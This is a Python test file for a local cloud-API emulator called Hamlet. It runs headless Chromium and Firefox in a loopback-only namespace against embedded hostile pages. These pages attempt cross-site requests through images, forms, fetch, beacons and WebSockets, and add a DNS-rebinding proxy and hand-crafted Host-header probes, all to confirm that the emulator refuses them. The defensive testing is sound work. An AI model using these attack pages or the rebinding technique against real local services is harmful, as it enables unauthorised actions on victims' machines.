#!/usr/bin/env python3
"""A web page is a stranger: real browsers, a hostile page, pictures, forms, fetch, WebSockets, and DNS rebinding.

Everything runs in a network namespace that has only a loopback. The page is first set on a server that writes down what
comes: there the door is open, and each attack must arrive with what it asks for. Then the same page is set on Hamlet.
"""

import collections
import contextlib
import hashlib
import hmac
import http.client
import json
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "labs"))
import harness

NAME = "rebound.example"
BROWSER_SECONDS = 60
IN_NAMESPACE = "HAMLET_TEST_IN_NAMESPACE"

# What a page does to `target` (host and port). Each attack has a network of its own, by which it is known again.
PAGE = """<!doctype html><title>hostile</title><body><script>
const port = %(port)s, name = %(name)s, query = %(query)s, report = %(report)s;
const ask = number => "/?Action=CreateVpc&Version=2016-11-15&CidrBlock=10." + number + ".0.0/16";
const url = (host, number) => "http://" + host + ":" + port + ask(number) + "&" + query;
const wait = milliseconds => new Promise(resolve => setTimeout(resolve, milliseconds));
const picture = (host, number) => new Promise(resolve => {
  const image = new Image(); image.onload = image.onerror = resolve; image.referrerPolicy = "no-referrer";
  image.src = url(host, number);
});
const form = (host, number) => {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "frame" + number; document.body.append(frame);
  form.method = "post"; form.target = frame.name; form.action = "http://" + host + ":" + port + "/?" + query;
  for (const [key, value] of new URLSearchParams(ask(number).slice(2))) {
    const field = document.createElement("input"); field.name = key; field.value = value; form.append(field);
  }
  document.body.append(form); form.submit(); return wait(700);
};
const quiet = promise => promise.catch(() => {});
const socket = () => new Promise(resolve => {
  const it = new WebSocket("ws://127.0.0.1:" + port + "/openTunnel?" +
    "instanceConnectEndpointId=eice-0123456789abcdef0&remotePort=22&privateIpAddress=10.0.0.4&" + %(tunnel)s);
  it.onopen = () => resolve("open"); it.onerror = () => resolve("refused"); setTimeout(() => resolve("silent"), 5000);
});
(async () => {
  const told = {};
  await picture(name, 11); await picture("127.0.0.1", 12); await picture("0.0.0.0", 13); await picture("localhost", 14);
  await form("127.0.0.1", 21); await form(name, 22);
  const plain = {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: "x"};
  await quiet(fetch(url("127.0.0.1", 31), plain));
  await quiet(fetch(url(name, 32), plain));
  await quiet(fetch(url("127.0.0.1", 33), {method: "POST", mode: "no-cors", body: new URLSearchParams({a: "b"})}));
  const signed = {method: "POST", headers: {"Authorization": %(authorization)s, "X-Amz-Date": %(date)s}};
  await quiet(fetch(url("127.0.0.1", 34), signed));
  navigator.sendBeacon(url("127.0.0.1", 35), "x");
  told.socket = await socket();
  // From here on, what this page came from leads to the target.
  await fetch("/switch"); await wait(300);
  const here = number => ask(number) + "&" + query;
  const read = async (number, options) => {
    try {
      const answer = await fetch(options.url || here(number), options);
      return [answer.status, (await answer.text()).slice(0, 400)];
    }
    catch (error) { return [0, String(error)]; }
  };
  told.get = await read(41, {});
  told.post = await read(42, {method: "POST"});
  const headers = {"Authorization": %(authorization)s, "X-Amz-Date": %(date)s};
  told.signed = await read(43, {method: "POST", url: ask(43), headers: headers});
  told.page = await read(0, {url: "/health"});
  await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(told)});
})();
</script>"""
# What a page does that lies in a bucket, and so came from the API's own port.
FROM_A_BUCKET = """<!doctype html><title>hostile</title><body><script>
(async () => {
  const url = "/?Action=CreateVpc&Version=2016-11-15&CidrBlock=10.51.0.0/16", told = {origin: self.origin};
  try {
    const headers = {"Authorization": %(authorization)s, "X-Amz-Date": %(date)s};
    const answer = await fetch(url, {method: "POST", headers: headers});
    told.signed = [answer.status, (await answer.text()).slice(0, 400)];
  }
  catch (error) { told.signed = [0, String(error)]; }
  await fetch(%(report)s, {method: "POST", mode: "no-cors", body: JSON.stringify(told)});
})();
</script>"""
SENT = {
    "10.11.0.0/16",
    "10.12.0.0/16",
    "10.13.0.0/16",
    "10.14.0.0/16",
    "10.21.0.0/16",
    "10.22.0.0/16",
    "10.31.0.0/16",
    "10.32.0.0/16",
    "10.33.0.0/16",
    "10.35.0.0/16",
}
REBOUND = {"10.41.0.0/16", "10.42.0.0/16", "10.43.0.0/16"}


def presigned(service):
    """A query with a signature by a key that nobody knows."""
    now = time.gmtime()
    scope = f"AKIAINVENTED/{time.strftime('%Y%m%d', now)}/{harness.REGION}/{service}/aws4_request"
    return urllib.parse.urlencode(
        {
            "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
            "X-Amz-Credential": scope,
            "X-Amz-Date": time.strftime("%Y%m%dT%H%M%SZ", now),
            "X-Amz-Expires": "600",
            "X-Amz-SignedHeaders": "host",
            "X-Amz-Signature": "0" * 64,
        }
    )


def header():
    """The same in a header."""
    now = time.gmtime()
    scope = f"AKIAINVENTED/{time.strftime('%Y%m%d', now)}/{harness.REGION}/ec2/aws4_request"
    return f"AWS4-HMAC-SHA256 Credential={scope}, SignedHeaders=host;x-amz-date, Signature={'0' * 64}", time.strftime(
        "%Y%m%dT%H%M%SZ", now
    )


class Server:
    """Accepts on the loopback and gives each connection to a thread."""

    def __init__(self):
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self.listener.accept()
                threading.Thread(target=self._serve, args=(connection,), daemon=True).start()

    def _serve(self, connection):
        with contextlib.suppress(OSError, ValueError), connection:
            connection.settimeout(BROWSER_SECONDS)
            self.serve(connection)

    def close(self):
        self.listener.close()

    @staticmethod
    def read(connection):
        """One request: method, target, headers, body."""
        stream = connection.makefile("rb")
        method, target, _ = stream.readline().decode().split(" ", 2)
        headers = http.client.parse_headers(stream)
        return method, target, headers, stream.read(int(headers.get("content-length") or 0)).decode()

    @staticmethod
    def answer(connection, body, kind="text/html"):
        body = body.encode()
        connection.sendall(
            f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n".encode()
            + b"Connection: close\r\n\r\n"
            + body
        )


class Recorder(Server):
    """Answers everything, and writes down what came: the open door."""

    def __init__(self):
        self.seen = []
        super().__init__()

    def serve(self, connection):
        method, target, headers, body = self.read(connection)
        self.seen.append((method, target, headers, body))
        self.answer(connection, "<VpcId>made</VpcId>")

    def networks(self):
        """The networks that were asked for by what is no question beforehand (CORS)."""
        both = [
            urllib.parse.parse_qs(urllib.parse.urlsplit(target).query) | urllib.parse.parse_qs(body)
            for method, target, _, body in self.seen
            if method != "OPTIONS"
        ]
        return {form["CidrBlock"][0] for form in both if form.get("Action") == ["CreateVpc"] and "CidrBlock" in form}


class Shop(Recorder):
    """Gives out a page at any path of HTML, and writes down what else comes: the open door for a page of its own."""

    def __init__(self, page):
        self.page = page
        super().__init__()

    def serve(self, connection):
        method, target, headers, body = self.read(connection)
        self.seen.append((method, target, headers, body))
        self.answer(connection, self.page if target.endswith(".html") else "<VpcId>made</VpcId>")


class Attacker(Server):
    """Gives out the page, until that says `/switch`: from then on its name leads to the target (DNS rebinding)."""

    def __init__(self, target, report):
        self.target, self.rebound = target, False
        super().__init__()
        authorization, date = header()
        words = {
            "port": target[1],
            "name": NAME,
            "query": presigned("ec2"),
            "tunnel": presigned("ec2-instance-connect"),
            "report": f"http://127.0.0.1:{report.port}/told",
            "authorization": authorization,
            "date": date,
        }
        self.page = PAGE % {name: json.dumps(word) for name, word in words.items()}

    def serve(self, connection):
        if self.rebound:
            return self.splice(connection)
        _, target, _, _ = self.read(connection)
        self.rebound = target == "/switch"
        self.answer(connection, self.page if target == "/" else "")

    def splice(self, connection):
        """As if the name's address were the target's now."""
        with socket.create_connection(self.target) as other:
            threading.Thread(target=copy, args=(other, connection), daemon=True).start()
            copy(connection, other)


def copy(source, sink):
    with contextlib.suppress(OSError):
        while data := source.recv(65536):
            sink.sendall(data)
    with contextlib.suppress(OSError):
        sink.shutdown(socket.SHUT_WR)


def chromium(profile):
    program = shutil.which("chromium") or shutil.which("chromium-browser")
    if not program:
        raise harness.CannotRun("chromium (package chromium) is missing")
    return [
        program,
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-features=HttpsUpgrades",
        f"--user-data-dir={profile}",
        "--host-resolver-rules=MAP * 127.0.0.1",
    ]


def firefox(profile):
    program = shutil.which("firefox-esr")
    if not program:
        raise harness.CannotRun("firefox-esr (package firefox-esr) is missing")
    settings = {
        "network.dns.localDomains": NAME,
        "dom.security.https_first": False,
        "browser.shell.checkDefaultBrowser": False,
        "datareporting.policy.dataSubmissionEnabled": False,
        "app.update.enabled": False,
        "network.captive-portal-service.enabled": False,
        "browser.aboutwelcome.enabled": False,
        "toolkit.telemetry.enabled": False,
    }
    lines = [f"user_pref({json.dumps(name)}, {json.dumps(value)});" for name, value in settings.items()]
    (profile / "user.js").write_text("\n".join(lines))
    return [program, "--headless", "--no-remote", "--profile", profile]


@contextlib.contextmanager
def visiting(command, url):
    """A browser in a process group of its own, which ends with the block."""
    with tempfile.TemporaryDirectory(prefix="hamlet-browser-", ignore_cleanup_errors=True) as directory:
        home = pathlib.Path(directory)
        environment = {
            "PATH": os.environ["PATH"],
            "HOME": directory,
            "XDG_RUNTIME_DIR": directory,
            "LC_ALL": "C.UTF-8",
            "MOZ_CRASHREPORTER_DISABLE": "1",
        }
        (home / "profile").mkdir()
        words = [str(word) for word in (*command(home / "profile"), url)]
        with open(home / "log", "wb") as log:
            browser = subprocess.Popen(
                words,
                env=environment,
                stdin=subprocess.DEVNULL,
                stdout=log,
                stderr=log,
                start_new_session=True,
                preexec_fn=harness.die_with_parent,
            )
        try:
            yield home / "log"
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(browser.pid, signal.SIGKILL)
            browser.wait()


def visit(command, target):
    """Sets the page on a target; what the page tells of it."""
    report = Recorder()
    attacker = Attacker(target, report)
    try:
        with visiting(command, f"http://{NAME}:{attacker.port}/") as log:
            told = lambda: [body for _, path, _, body in report.seen if path == "/told"]
            try:
                harness.wait_for("the page to have done its worst", told, BROWSER_SECONDS)
            except harness.Failed as failure:
                raise harness.Failed(f"{failure}\n{log.read_text(errors='replace')[-2000:]}") from None
            return json.loads(told()[0])
    finally:
        attacker.close()
        report.close()


def visit_bucket(command, page_at):
    """Opens a page that `page_at` puts somewhere; what the page tells."""
    report = Recorder()
    authorization, date = header()
    words = {"authorization": authorization, "date": date, "report": f"http://127.0.0.1:{report.port}/told"}
    url = page_at(FROM_A_BUCKET % {name: json.dumps(word) for name, word in words.items()})
    try:
        with visiting(command, url) as log:
            told = lambda: [body for _, path, _, body in report.seen if path == "/told"]
            try:
                harness.wait_for("the page to have done its worst", told, BROWSER_SECONDS)
            except harness.Failed as failure:
                raise harness.Failed(f"{failure}\n{log.read_text(errors='replace')[-2000:]}") from None
            return json.loads(told()[0])
    finally:
        report.close()


class WebPage(harness.Lab):
    options = ("--instances", "none")
    browser = None
    # What this browser itself keeps from the network.
    blocked = set()

    def walk(self):
        self.step("the door is open: what the page sends arrives as it is meant")
        recorder = Recorder()
        told = visit(self.browser, ("127.0.0.1", recorder.port))
        recorder.close()
        self.sees(recorder.networks(), SENT - self.blocked | REBOUND, "networks that the page asks for")
        self.sees(
            (told["get"], told["signed"]),
            ([200, "<VpcId>made</VpcId>"], [200, "<VpcId>made</VpcId>"]),
            "what the page reads after rebinding",
        )
        pictures = [headers for _, target, headers, _ in recorder.seen if "10.11.0.0" in target]
        self.holds(
            pictures and not any(headers["origin"] or headers["sec-fetch-site"] for headers in pictures),
            f"a picture that says nothing of its page: {pictures}",
        )
        self.holds(any(path.startswith("/openTunnel") for _, path, _, _ in recorder.seen), "no WebSocket was tried")
        self.step("what the page asks for is understood by Hamlet, when a program asks")
        authorization, date = header()
        connection = http.client.HTTPConnection(*self.hamlet.address)
        connection.request(
            "POST",
            "/?Action=CreateVpc&Version=2016-11-15&CidrBlock=10.43.0.0/16",
            headers={"Authorization": authorization, "X-Amz-Date": date},
        )
        self.sees(connection.getresponse().status, 200, "the same from a program")
        self.step("Hamlet: nothing is made, and the page reads nothing")
        before = self.vpcs()
        told = visit(self.browser, self.hamlet.address)
        self.sees(self.vpcs(), before, "VPCs after the page")
        for what in ("get", "post", "signed", "page"):
            status, text = told[what]
            self.holds(status == 403 and "does not stand for Hamlet" in text, f"{what} after rebinding: {told[what]}")
        self.sees(told["socket"], "refused", "a WebSocket to openTunnel")
        refused = collections.Counter(self.hamlet.status()["refused_requests"])
        # 0.0.0.0 is a name of this machine of which browsers that let it pass say nothing: Unproven is all that is
        # left.
        self.sees(refused["Unproven"] >= 1, not self.blocked, f"a picture from 0.0.0.0: {refused}")
        self.holds(refused["UnknownHost"] >= 7 and refused["WebPage"] >= 5, f"hamlet status counts {refused}")
        self.page_in_a_bucket()

    def page_in_a_bucket(self):
        self.step("a page that somebody put into a bucket asks as itself where the door is open, and as nobody here")
        shops = []

        def in_a_shop(page):
            shops.append(Shop(page))
            return f"http://127.0.0.1:{shops[0].port}/pages/evil.html"

        told = visit_bucket(self.browser, in_a_shop)
        self.sees((told["signed"], shops[0].networks()), ([200, "<VpcId>made</VpcId>"], {"10.51.0.0/16"}))
        shops[0].close()
        before = self.vpcs()
        told = visit_bucket(self.browser, self.in_a_bucket)
        self.sees((told["origin"], self.vpcs()), ("null", before))
        self.holds(told["signed"][0] in (0, 403), told)

    def in_a_bucket(self, page):
        """The address of a page that everybody may read."""
        statement = {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::pages/*"}
        location = ("--create-bucket-configuration", f"LocationConstraint={harness.REGION}")
        self.aws("s3api", "create-bucket", "--bucket", "pages", *location)
        self.aws("s3api", "delete-public-access-block", "--bucket", "pages")
        policy = json.dumps({"Version": "2012-10-17", "Statement": statement})
        self.aws("s3api", "put-bucket-policy", "--bucket", "pages", "--policy", policy)
        with tempfile.NamedTemporaryFile("w", suffix=".html") as file:
            file.write(page)
            file.flush()
            body = ("--body", file.name, "--content-type", "text/html")
            self.aws("s3api", "put-object", "--bucket", "pages", "--key", "evil.html", *body)
        return "http://{}:{}/pages/evil.html".format(*self.hamlet.address)

    def vpcs(self):
        return sorted(vpc["CidrBlock"] for vpc in self.ec2("describe-vpcs")["Vpcs"])


class Chromium(WebPage):
    browser = staticmethod(chromium)


class Firefox(WebPage):
    browser = staticmethod(firefox)
    blocked = {"10.13.0.0/16"}


class ByHand(harness.Lab):
    """What browsers do not send today, or only some of them."""

    options = ("--instances", "none", "--host-name", "Cloud.Internal")

    def walk(self):
        self.step("whom a request is spoken to: HTTP/1, absolute targets, HTTP/2")
        own = "{}:{}".format(*self.hamlet.address)
        for host, status in (
            (own, 200),
            ("localhost", 200),
            ("ec2.us-east-1.amazonaws.com", 200),
            ("cloud.internal:1", 200),
            (NAME, 403),
            (f"{own}.{NAME}", 403),
        ):
            self.sees(self.ask("GET /health HTTP/1.1", f"Host: {host}"), status, host)
            self.sees(self.ask(f"GET http://{host}/health HTTP/1.1", f"Host: {host}"), status, f"{host} in the target")
            self.sees(
                self.curl("--http2-prior-knowledge", "-H", f"Host: {host}", f"http://{own}/health"),
                f"2 {status}",
                f"{host} as :authority",
            )
        for lines in (
            [f"GET http://{NAME}/health HTTP/1.1", f"Host: {own}"],
            [f"GET http://{own}/health HTTP/1.1", f"Host: {NAME}"],
            ["GET /health HTTP/1.1", f"Host: {own}", f"Host: {NAME}"],
            ["GET /health HTTP/1.1", f"Host: user@{own}"],
            ["GET /health HTTP/1.0"],
            ["GET /health HTTP/1.1", "Host:"],
        ):
            self.sees(self.ask(*lines), 403, str(lines))
        self.step("a link asks for nothing but answers, with whatever method, unless its key is known")
        create = "Action=CreateVpc&Version=2016-11-15&CidrBlock=10.5.0.0/16"
        read = "Action=DescribeVpcs&Version=2016-11-15"
        before = self.vpcs()
        for method in ("GET", "HEAD", "POST", "PUT", "OPTIONS"):
            self.sees(
                self.ask(f"{method} /?{create}&{presigned('ec2')} HTTP/1.1", f"Host: {own}"),
                403,
                f"{method} of a change",
            )
        role = "Action=CreateRole&Version=2010-05-08&RoleName=x&AssumeRolePolicyDocument=%7B%7D"
        self.sees(self.ask(f"GET /?{role}&{presigned('iam')} HTTP/1.1", f"Host: {own}"), 403, "a change in IAM")
        self.sees(
            self.ask(
                f"POST /2013-04-01/hostedzone?{presigned('route53')} HTTP/1.1",
                f"Host: {own}",
                "Content-Type: text/plain",
            ),
            403,
            "a change in Route 53",
        )
        self.sees(self.ask(f"GET /?{read}&{presigned('ec2')} HTTP/1.1", f"Host: {own}"), 200, "a question")
        revision = self.hamlet.status()["revision"]
        other = presigned("ec2").replace("AKIAINVENTED", "999999999999")
        self.sees(
            self.ask(f"GET /?{read}&{other} HTTP/1.1", f"Host: {own}"),
            200,
            "a question for an account that is not there yet",
        )
        self.sees((self.hamlet.status()["revision"], self.vpcs()), (revision, before), "what links have made")
        self.sees(self.ask(f"GET /?{self.known(create, own)} HTTP/1.1", f"Host: {own}"), 200, "a change by a known key")
        self.sees(len(self.vpcs()), len(before) + 1, "VPCs by a known key")
        spoiled = self.known(create, own).replace("10.5.0.0", "10.6.0.0")
        self.sees(self.ask(f"GET /?{spoiled} HTTP/1.1", f"Host: {own}"), 401, "a change by a known key, spoiled")
        basic = ("Authorization: Basic dXNlcjpwYXNz", f"Host: {own}")
        self.sees(self.ask(f"GET /?{create}&{presigned('ec2')} HTTP/1.1", *basic), 400, "a user and password in a link")
        self.sees(len(self.vpcs()), len(before) + 1, "VPCs at the end")

    def ask(self, *lines):
        """The status of the answer to these lines."""
        with socket.create_connection(self.hamlet.address, timeout=10) as connection:
            connection.sendall("\r\n".join([*lines, "Connection: close", "Content-Length: 0", "", ""]).encode())
            return int(connection.makefile("rb").readline().split()[1])

    def curl(self, *words):
        command = ["curl", "-sS", "-m", "10", "-o", "/dev/null", "-w", "%{http_version} %{http_code}", *words]
        return harness.execute(command, {"PATH": os.environ["PATH"]}).out

    def known(self, query, host):
        """The query, presigned by the key of this Hamlet."""
        key, secret = (self.hamlet.environment[f"AWS_{name}"] for name in ("ACCESS_KEY_ID", "SECRET_ACCESS_KEY"))
        fields = dict(urllib.parse.parse_qsl(presigned("ec2").replace("AKIAINVENTED", key)))
        del fields["X-Amz-Signature"]
        fields |= dict(urllib.parse.parse_qsl(query))
        text = urllib.parse.urlencode(sorted(fields.items()), quote_via=urllib.parse.quote, safe="-_.~")
        scope = fields["X-Amz-Credential"].split("/", 1)[1]
        canonical = f"GET\n/\n{text}\nhost:{host}\n\nhost\n{hashlib.sha256(b'').hexdigest()}"
        to_sign = "\n".join(
            ["AWS4-HMAC-SHA256", fields["X-Amz-Date"], scope, hashlib.sha256(canonical.encode()).hexdigest()]
        )
        digest = f"AWS4{secret}".encode()
        for part in (*scope.split("/"), to_sign):
            digest = hmac.digest(digest, part.encode(), "sha256")
        return f"{text}&X-Amz-Signature={digest.hex()}"

    def vpcs(self):
        return sorted(vpc["CidrBlock"] for vpc in self.ec2("describe-vpcs")["Vpcs"])


def enter_namespace():
    """Starts this program again where there is only a loopback."""
    own_user = [] if os.geteuid() == 0 else ["--user", "--map-root-user"]
    inside = ["sh", "-c", 'ip link set lo up && exec "$@"', "sh", sys.executable, *sys.argv]
    os.environ[IN_NAMESPACE] = "1"
    os.environ["PATH"] += ":/usr/sbin:/sbin"
    os.execvp("unshare", ["unshare", "--net", *own_user, "--", *inside])


if __name__ == "__main__":
    if IN_NAMESPACE not in os.environ:
        enter_namespace()
    missing = [name for name in ("chromium", "firefox-esr") if not shutil.which(name)]
    for name in missing:
        print(f"CANNOT RUN WebPage in {name}: the package {name} is missing")
    if missing:
        harness.summary(["failed" if harness.IN_CI else "not run"])
    harness.run(Chromium, Firefox, ByHand, both=False)
